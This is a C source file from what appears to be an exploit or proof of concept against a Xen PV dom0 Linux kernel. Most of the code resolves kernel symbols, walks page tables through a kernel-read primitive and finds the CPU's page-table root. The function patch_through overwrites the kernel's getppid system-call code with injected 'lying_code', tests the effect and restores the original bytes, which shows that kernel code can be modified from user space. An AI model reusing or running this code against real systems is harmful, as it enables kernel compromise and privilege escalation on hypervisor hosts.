// SPDX-License-Identifier: GPL-2.0-only
/*
 * A walk through page tables of a PV dom0, without asking Xen: the kernel's
 * memory is there to be read.
 */
#include "paging.h"

#include <sched.h>

struct pte find_pte(uint64_t root, uint64_t address, unsigned int level)
{
    struct pte pte = { 0, 0 };
    uint64_t table = root, frame = frame_of_page(root);

    for ( unsigned int at = 4; table && at >= level; at-- )
    {
        const uint64_t index = (address >> (12 + 9 * (at - 1))) & 0x1ff;

        pte.value = entry_at(table, address, at);
        pte.where = frame * PAGE_SIZE + index * sizeof(pte.value);
        if ( at == level )
            return pte;

        frame = PTE_FRAME(pte.value);
        table = frame ? page_of_frame(frame) : 0;
    }

    return (struct pte){ 0, 0 };
}

uint64_t kernel_root(void)
{
    return kernel_page_number(kernel_symbol("init_top_pgt"));
}

static uint64_t read_word(uint64_t address)
{
    uint64_t word = 0;

    return address && read_kernel(address, &word, sizeof(word)) ? word : 0;
}

/* The kernel remembers for each CPU which table it runs on: ours. */
uint64_t own_root(void)
{
    stay_on_cpu(0);
    return read_word(per_cpu("xen_cr3", 0)) / PAGE_SIZE;
}

uint64_t kernel_alias(const void *page)
{
    const uint64_t number = own_page_number(page),
                   base = read_word(kernel_symbol("page_offset_base"));

    return number && base ? base + number * PAGE_SIZE : 0;
}

uint64_t per_cpu(const char *symbol, unsigned int cpu)
{
    const uint64_t offsets = kernel_symbol("__per_cpu_offset"),
                   offset = offsets ? read_word(offsets + cpu * sizeof(offset))
                                    : 0,
                   variable = kernel_symbol(symbol);

    return offset && variable ? offset + variable : 0;
}

void stay_on_cpu(unsigned int cpu)
{
    cpu_set_t one;

    CPU_ZERO(&one);
    CPU_SET(cpu, &one);
    sched_setaffinity(0, sizeof(one), &one);
}

uint64_t getppid_code(void)
{
    return kernel_symbol("__x64_sys_getppid");
}

bool patch_through(uint8_t *page)
{
    uint8_t *code = page + getppid_code() % PAGE_SIZE;
    uint8_t original[LYING_CODE_SIZE];
    bool lied;

    if ( !read_kernel(getppid_code(), original, sizeof(original)) ||
         memcmp(code, original, sizeof(original)) )
        return false;

    memcpy(code, lying_code, sizeof(original));
    lied = getppid_lies();
    memcpy(code, original, sizeof(original));

    return lied;
}
